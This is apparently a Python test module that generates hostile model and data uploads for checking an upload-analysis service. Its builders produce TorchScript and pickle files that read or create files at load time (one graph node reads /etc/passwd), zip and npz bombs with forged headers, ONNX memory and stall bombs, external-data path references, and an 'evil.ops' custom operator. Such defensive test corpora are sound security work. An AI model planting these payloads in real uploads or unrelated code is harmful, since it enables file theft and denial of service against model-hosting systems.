"""A corpus of hostile uploads, built by code (no binaries in the repository).

Each builder makes one file of a class an attack review found, or could have: code that
runs at load time, pickles, graphs calling file operations, archives and arrays that claim
gigabytes, ONNX models that exhaust memory or stall, and references to files outside the
upload.
"""

import io
import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

# -- TorchScript --------------------------------------------------------------------------


def torchscript_from_file(target: Path, out: Path, size: int = 16, shared: bool = False) -> Path:
    """A scripted module whose __setstate__, which TorchScript runs while loading, maps
    `target` with torch.from_file: shared=True creates and writes the file; shared=False
    reads it into a buffer the forward pass then carries into every output and export."""
    import torch

    class Leaky(torch.nn.Module):
        path: str
        shared: bool
        size: int

        def __init__(self):
            super().__init__()
            self.weight = torch.nn.Parameter(torch.randn(3, 4))
            self.path, self.shared, self.size = str(target), shared, size
            self.leak = torch.zeros(size, dtype=torch.uint8)

        def forward(self, x):
            return x @ self.weight.t() + self.leak[:3].float()

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, str, bool, int, bool]:
            return (self.weight, self.path, self.shared, self.size, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, str, bool, int, bool]):
            self.weight, self.path, self.shared, self.size, self.training = state
            self.leak = torch.from_file(self.path, shared=self.shared, size=self.size, dtype=torch.uint8)

    torch.jit.save(torch.jit.script(Leaky()), str(out))
    return out


def zip_with_padding(source: Path, out: Path, padding_bytes: int) -> Path:
    """`source` plus a member of zeros: a few kilobytes that unpack to `padding_bytes`."""
    with (
        zipfile.ZipFile(source) as archive,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as copy,
    ):
        prefix = archive.namelist()[0].split("/")[0]
        for info in archive.infolist():
            copy.writestr(info, archive.read(info))
        with copy.open(f"{prefix}/extra/padding", "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(padding_bytes >> 20):
                member.write(chunk)
    return out


def zip_understating(source: Path, out: Path, suffix: str, zeros_mib: int) -> Path:
    """A copy of the zip `source` whose member ending in `suffix` unpacks to its own bytes
    and then `zeros_mib` MiB of zeros, while its directory entry and local header declare
    its own size and checksum only: readers that trust them see an honest member.
    About 1 KB of file per MiB of zeros."""
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(out, "w") as copy:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename.endswith(suffix):
                name, honest = info.filename, data
                # Stored as written, then relabelled deflated below: zipfile takes no packed data.
                copy.writestr(zipfile.ZipInfo(name), _deflated_then_zeros(data, zeros_mib))
            else:
                copy.writestr(info, data)
    with zipfile.ZipFile(out) as archive:
        local = archive.getinfo(name).header_offset
    blob = bytearray(out.read_bytes())
    central = blob.rfind(name.encode()) - 46  # the directory comes last; its entry's name, at 46
    assert blob[local : local + 4] == b"PK\x03\x04" and blob[central : central + 4] == b"PK\x01\x02"
    # The method; 4 bytes on, the checksum, then the packed size (true), the unpacked size.
    for method_at in (local + 8, central + 10):
        struct.pack_into("<H", blob, method_at, zipfile.ZIP_DEFLATED)
        struct.pack_into("<L", blob, method_at + 6, zlib.crc32(honest))
        struct.pack_into("<L", blob, method_at + 14, len(honest))
    out.write_bytes(blob)
    return out


def _deflated_then_zeros(data: bytes, zeros_mib: int) -> bytes:
    """A raw deflate stream of `data` then `zeros_mib` MiB of zeros, made without packing
    them all: after a full flush a deflate block refers to nothing before it, so the block
    of one MiB of zeros is repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + zeros * zeros_mib + packer.flush()


def zip_damaged(source: Path, out: Path, suffix: str, how: str) -> Path:
    """A copy of the zip `source` whose member ending in `suffix` is damaged: `how` is
    "checksum" (its recorded checksum is wrong) or "packed" (it is deflated, and its packed
    bytes are junk)."""
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(out, "w") as copy:
        for info in archive.infolist():
            target = info.filename.endswith(suffix)
            if target:
                name = info.filename
            packing = zipfile.ZIP_DEFLATED if target and how == "packed" else info.compress_type
            copy.writestr(info, archive.read(info), compress_type=packing)
    with zipfile.ZipFile(out) as archive:
        info = archive.getinfo(name)
    blob = bytearray(out.read_bytes())
    local = info.header_offset
    if how == "checksum":
        central = blob.rfind(name.encode()) - 46
        for crc_at in (local + 14, central + 16):
            struct.pack_into("<L", blob, crc_at, info.CRC ^ 1)
    else:
        name_length, extra_length = struct.unpack_from("<HH", blob, local + 26)
        start = local + 30 + name_length + extra_length
        blob[start : start + info.compress_size] = b"\xff" * info.compress_size
    out.write_bytes(blob)
    return out


# -- torch.export programs -----------------------------------------------------------------


class _CreatesFile:
    """Unpickling this opens (and so creates) a file: what a hostile pickle would do."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def pt2_with_pickled_weights(source: Path, out: Path, canary: Path) -> Path:
    """A .pt2 whose weights are a legacy `data/weights/model.pt` pickle, which
    torch.export.load unpickles with weights_only=False when its safe loader fails."""
    payload = pickle.dumps({"weights": _CreatesFile(canary)})
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(out, "w") as copy:
        for info in archive.infolist():
            if "/data/weights/" in info.filename:
                continue
            copy.writestr(info, archive.read(info))
        prefix = archive.namelist()[0].split("/")[0]
        copy.writestr(f"{prefix}/data/weights/model.pt", payload)
    return out


def pt2_calling(source: Path, out: Path, target: str) -> Path:
    """A .pt2 whose graph gains one node calling `target` (e.g. aten.from_file)."""
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(out, "w") as copy:
        for info in archive.infolist():
            data = archive.read(info)
            if "/models/" in info.filename and info.filename.endswith(".json"):
                program = json.loads(data)
                nodes = program["graph_module"]["graph"]["nodes"]
                nodes.insert(
                    0,
                    {
                        "target": target,
                        "inputs": [
                            {"name": "filename", "arg": {"as_string": "/etc/passwd"}},
                            {"name": "shared", "arg": {"as_bool": False}},
                            {"name": "size", "arg": {"as_int": 8}},
                        ],
                        "outputs": [{"as_tensor": {"name": "leak"}}],
                        "metadata": {},
                    },
                )
                data = json.dumps(program).encode()
            copy.writestr(info, data)
    return out


# -- evaluation data ------------------------------------------------------------------------


def npz(out: Path, **arrays) -> Path:
    np.savez(out, **arrays)
    return out


def npz_claiming(out: Path, shape: tuple[int, ...]) -> Path:
    """An .npz whose x.npy header claims `shape` (float32) but holds a few bytes."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": shape})
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("x.npy", header.getvalue() + bytes(64))
    return out


# -- ONNX -----------------------------------------------------------------------------------


def _model(nodes, inputs, outputs, initializers=(), opset=17, domains=()) -> onnx.ModelProto:
    graph = helper.make_graph(nodes, "hostile", inputs, outputs, list(initializers))
    imports = [helper.make_opsetid("", opset), *(helper.make_opsetid(d, 1) for d in domains)]
    return helper.make_model(graph, opset_imports=imports, ir_version=8)


def _io(name: str, shape=("batch", 4)):
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, list(shape))


def onnx_memory_bomb(out: Path, floats: int) -> Path:
    """A model of a few hundred bytes that asks for `floats` float32s when it runs."""
    shape = numpy_helper.from_array(np.array([floats], dtype=np.int64), "shape")
    model = _model(
        [
            helper.make_node(
                "ConstantOfShape",
                ["shape"],
                ["big"],
                value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]),
            ),
            helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
            helper.make_node("Add", ["x", "total"], ["y"]),
        ],
        [_io("x")],
        [_io("y")],
        [shape],
    )
    onnx.save(model, str(out))
    return out


def onnx_stalls_on_batches(out: Path) -> Path:
    """A model that answers at once for one sample (as an upload's analysis runs it) but
    loops ~forever inside ONNX Runtime for a batch of several (as a session measures it)."""
    constants = [
        numpy_helper.from_array(np.array(value, dtype=dtype), name)
        for name, value, dtype in (
            ("zero", 0, np.int64),
            ("one", 1, np.int64),
            ("scale", 10**15, np.int64),
            ("cond", True, np.bool_),
        )
    ]
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["acc_in", "acc_in"], ["acc_out"]),
        ],
        "spin",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, []),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, []),
        ],
    )
    model = _model(
        [
            helper.make_node("Shape", ["x"], ["shape"]),
            helper.make_node("Gather", ["shape", "zero"], ["batch"]),
            helper.make_node("Sub", ["batch", "one"], ["extra"]),
            helper.make_node("Mul", ["extra", "scale"], ["trips"]),
            helper.make_node("ReduceSum", ["x"], ["seed"], keepdims=0),
            helper.make_node("Loop", ["trips", "cond", "seed"], ["acc"], body=body),
            helper.make_node("Add", ["x", "acc"], ["y"]),
        ],
        [_io("x")],
        [_io("y")],
        constants,
    )
    onnx.save(model, str(out))
    return out


def onnx_external_data(out: Path, location: str) -> Path:
    """A model whose weight lives in an "external file" at `location` (e.g. a server file)."""
    weight = numpy_helper.from_array(np.zeros((4, 4), dtype=np.float32), "w")
    weight.ClearField("raw_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "64")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    model = _model([helper.make_node("MatMul", ["x", "w"], ["y"])], [_io("x")], [_io("y")], [weight])
    onnx.save(model, str(out))
    return out


def onnx_custom_domain(out: Path) -> Path:
    """A model calling an operator that only a custom-op library would provide."""
    model = _model(
        [helper.make_node("Exfiltrate", ["x"], ["y"], domain="evil.ops")],
        [_io("x")],
        [_io("y")],
        domains=["evil.ops"],
    )
    onnx.save(model, str(out))
    return out
